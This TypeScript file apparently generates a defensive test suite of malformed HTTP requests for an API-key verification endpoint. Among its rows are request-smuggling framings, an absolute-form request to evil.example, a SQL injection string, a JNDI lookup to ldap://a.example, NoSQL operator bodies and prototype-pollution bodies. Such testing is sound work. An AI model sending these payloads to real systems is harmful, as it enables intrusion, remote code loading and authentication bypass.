import type { Requests } from './requests.ts'

type Tokens = Record<string, string>
type Row = [name: string, make: () => string]

/** Rows of attacks on framing, credentials and bodies, as far as they concern these routes; written in Latin-1. */
export function unusualRequests(requests: Requests, tokens: Tokens): Row[] {
  return [
    ...framing(requests),
    ...addresses(requests, tokens),
    ...headers(requests),
    ...credentials(requests, tokens),
    ...bodies(requests),
    ...batchesAndOthers(requests),
  ]
}

function framing({ request, body }: Requests): Row[] {
  return [
    ['CL and TE', () => request(body(), { headers: ['Transfer-Encoding: chunked'] })],
    [
      'chunked',
      () =>
        request('', { headers: ['Transfer-Encoding: chunked'] })
          .replace(/Content-Length.*\r\n/, '')
          .concat(`${body().length.toString(16)}\r\n${body()}\r\n0\r\n\r\n`),
    ],
    ['two Content-Lengths', () => request(body(), { headers: ['Content-Length: 3'] })],
    [
      'the same Content-Length twice',
      () => request(body(), { headers: [`Content-Length: ${body().length}`] }),
    ],
    ...['+3', '3, 3', '0x3', ' 3 ', '1234567890123456789', '-1', '007', '3.0', ''].map(
      (contentLength): [string, () => string] => [
        `Content-Length ${JSON.stringify(contentLength)}`,
        () => request('abc', { contentLength }),
      ],
    ),
    ['a Content-Length too small', () => request(body(), { contentLength: '5' })],
    ['a Content-Length beyond 1 MiB', () => request(body(), { contentLength: '1048577' })],
    ['xchunked', () => request(body(), { headers: ['Transfer-Encoding: xchunked'] })],
    ['two Hosts', () => request(body(), { headers: ['Host: other'] })],
    ['no Host', () => request(body()).replace(/Host.*\r\n/, '')],
    ['empty Host', () => request(body()).replace(/Host: .*\r\n/, 'Host: \r\n')],
    ...['a@b', 'a/b', 'a:99999', 'a'.repeat(300), '[::1]:8787', 'a:65535'].map(
      (host): [string, () => string] => [
        `Host ${host.slice(0, 20)}`,
        () => request(body()).replace('keyturn.example:8787', host),
      ],
    ),
    ['absolute form', () => request(body()).replace('POST /', 'POST http://evil.example/')],
    ...['HTTP/1.0', 'HTTP/3.7', 'HTTP/1.1 ', 'http/1.1', 'HTTP/1.1x'].map(
      (version): [string, () => string] => [version, () => request(body()).replace('HTTP/1.1', version)],
    ),
    ['bare LF', () => request(body()).replace('\r\nContent-Type', '\nContent-Type')],
    ['bare CR', () => request(body()).replace('\r\nContent-Type', '\rContent-Type')],
    ['obs-fold', () => request(body(), { headers: ['Accept: a', ' b'] })],
    ['a space before the colon', () => request(body()).replace('Content-Type:', 'Content-Type :')],
    ['a header without a colon', () => request(body(), { headers: ['Accept'] })],
    ['a space after a value', () => request(body(), { headers: ['Accept: a '] })],
    ['two spaces before a value', () => request(body(), { headers: ['Accept:  a'] })],
    ['no space before a value', () => request(body(), { headers: ['Accept:a'] })],
    ['NUL in a header', () => request(body(), { headers: ['Accept: a\0b'] })],
    ['DEL in a header', () => request(body(), { headers: ['Accept: a\x7fb'] })],
    ['a header beyond ASCII', () => request(body(), { headers: ['Accept: \xe9'] })],
    [
      '25 headers',
      () => request(body(), { headers: Array.from({ length: 25 }, (_, index) => `X-${index}: a`) }),
    ],
    [
      '101 headers',
      () => request(body(), { headers: Array.from({ length: 101 }, (_, index) => `X-${index}: a`) }),
    ],
    ['a long header', () => request(body(), { headers: [`User-Agent: ${'a'.repeat(5000)}`] })],
    ['a header too long', () => request(body(), { headers: [`User-Agent: ${'a'.repeat(17_000)}`] })],
    ['a path too long', () => request(body(), { path: `/v1/keys/verify?${'a'.repeat(9000)}` })],
  ]
}

function addresses({ request, body }: Requests, tokens: Tokens): Row[] {
  return [
    ...['PUT', 'GeT', 'post', 'TRACE', 'PROPFIND'].map((method): [string, () => string] => [
      method,
      () => request(body()).replace('POST', method),
    ]),
    ['method override', () => request(body(), { headers: ['X-HTTP-Method-Override: DELETE'] })],
    ...[
      '/v1//keys/verify',
      '/v1/./keys/verify',
      '/v1/keys/verify/',
      '/V1/keys/verify',
      '/v1/keys/verify;x=y',
      '/v1/keys/%76erify',
      '/v1/keys/verify?a=1',
      '/v1/keys/verify%00',
      '/v1/keys/verify-batch2',
      '/v1/keys/verify#a',
    ].map((path): [string, () => string] => [path, () => request(body(), { path })]),
    ['a key in the address', () => request(body(), { path: `/v1/keys/verify?api_key=${tokens['root']}` })],
  ]
}

function headers({ request, body }: Requests): Row[] {
  return [
    ['Expect: foo', () => request(body(), { headers: ['Expect: foo'] })],
    ['Upgrade', () => request(body(), { headers: ['Upgrade: websocket'] })],
    ['Connection: close', () => request(body(), { headers: ['Connection: close'] })],
    ['hop-by-hop credential', () => request(body(), { headers: ['Connection: Authorization'] })],
    ['Content-Encoding', () => request(body(), { headers: ['Content-Encoding: gzip'] })],
    ['a cookie', () => request(body(), { headers: ['Cookie: a=b'] })],
    ['X-Forwarded-For', () => request(body(), { headers: ['X-Forwarded-For: 203.0.113.7'] })],
    ['Idempotency-Key', () => request(body(), { headers: ['Idempotency-Key: a'] })],
    ['an unknown header', () => request(body(), { headers: ['X-Other: a'] })],
    ['a prototype as header', () => request(body(), { headers: ['__proto__: a'] })],
    ['a harmless header twice', () => request(body(), { headers: ['Accept: a', 'accept: b'] })],
  ]
}

function credentials({ request, body }: Requests, tokens: Tokens): Row[] {
  return [
    ['no credential', () => request(body(), { credential: '' })],
    ...[
      'Authorization:',
      'Authorization: Bearer',
      'Authorization: Bearer ',
      'Authorization: Basic a2V5',
      'Authorization: Token abcdefghijklmnopqrst',
      'X-API-Key:',
      'X-API-Key: short',
      'X-API-Key: ee_live_abc...',
      'X-API-Key: "ee_live_0123456789ABCDEFGHIJKLMNOP38T6tH"',
      'X-API-Key: ee_live_0123456789ABCDEFGHIJKLMNOP38T6tH',
      'X-API-Key: ee_live_0123456789ABCDEFGHIJKLMNOP38T6tX',
      "X-API-Key: ' OR '1'='1",
      'X-API-Key: $' + '{jndi:ldap://a.example/a}',
      'X-API-Key: \xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9\xe9',
      `X-API-Key: ${'a'.repeat(513)}`,
    ].map((credential): [string, () => string] => [
      credential.slice(0, 60),
      () => request(body(), { credential }),
    ]),
    [
      'two spaces after the scheme',
      () => request(body(), { credential: `Authorization: Bearer  ${tokens['root']}` }),
    ],
    [
      'a tab after the scheme',
      () => request(body(), { credential: `Authorization: Bearer\t${tokens['root']}` }),
    ],
    [
      'two keys in one header',
      () => request(body(), { credential: `X-API-Key: ${tokens['root']}, ${tokens['root']}` }),
    ],
    [
      'the same credential twice',
      () => request(body(), { headers: [`Authorization: Bearer ${tokens['root']}`] }),
    ],
    ['two credentials', () => request(body(), { headers: [`X-API-Key: ${tokens['root']}`] })],
    ...['plain', 'revoked', 'disabled', 'reader', 'elsewhere', 'batchOnly'].map(
      (name): [string, () => string] => [
        `the ${name} key as credential`,
        () => request(body(), { credential: `X-API-Key: ${tokens[name]}` }),
      ],
    ),
  ]
}

function bodies({ request, body }: Requests): Row[] {
  return [
    ['no Content-Type', () => request(body()).replace(/Content-Type.*\r\n/, '')],
    ...[
      'text/plain',
      'application/json; charset=utf-16',
      'application/json\ta',
      'application/json;',
      'application/jsonx',
      'application/json ; charset=utf-8',
      'application/json; charset="utf-8"',
    ].map((type): [string, () => string] => [
      `Content-Type ${type}`,
      () => request(body()).replace('application/json', type),
    ]),
    ...[
      '',
      'null',
      '[]',
      '"x"',
      '1',
      '{',
      '{"key":"a",}',
      "{'key':'a'}",
      '{"key":NaN}',
      '{"key":"a"}{"key":"a"}',
      '\ufeff{"key":"a"}',
      '{"key":"\\ud800"}',
      '{"key":"a","key":"b"}',
      '['.repeat(40),
      '{"key":{"$gt":""}}',
      '{"__proto__":{"x":1},"key":"a"}',
      '{"key":"a","constructor":{"prototype":{}}}',
      '{"key":"a","isAdmin":true}',
      '{"apiId":"a"}',
      '{"key":5}',
      '{"key":"a","cost":-0}',
      '{"key":"a","cost":1e400}',
      '{"key":"a","cost":9007199254740993}',
      '{"key":"a","cost":1.5}',
      '{"key":"a","cost":"5"}',
      '{"key":"a","scopes":"leads:read and"}',
      '{"key":"a","scopes":[5]}',
      '{"key":"a","scopes":"a"}',
      '{"key":"a","request":"b"}',
      '{"key":"ke\\u0079"}',
      '{"key":"☃"}',
      `{"key":"a","scopes":${JSON.stringify(Array(65).fill('a:b'))}}`,
      '{"verifications":[]}',
    ].map((text): [string, () => string] => [`the body ${text.slice(0, 50)}`, () => request(text)]),
  ]
}

function batchesAndOthers({ request, body }: Requests): Row[] {
  return [
    ...[
      '{"verifications":[]}',
      '{"verifications":[{"key":"a"},{"key":"a","scopes":"a:b and"}]}',
      '{"verifications":{"key":"a"}}',
      `{"verifications":[${Array(1001).fill('{"key":"a"}').join()}]}`,
    ].map((text): [string, () => string] => [
      `the batch ${text.slice(0, 60)}`,
      () => request(text, { path: '/v1/keys/verify-batch' }),
    ]),
    ['invalid UTF-8', () => request(body()).replace('"plan', '\xff')],
    ['no request at all', () => '\x16\x03\x01\x02\x00'],
    ['HTTP/0.9', () => 'GET /\r\n\r\n'],
    ['the preface of HTTP/2', () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ]
}
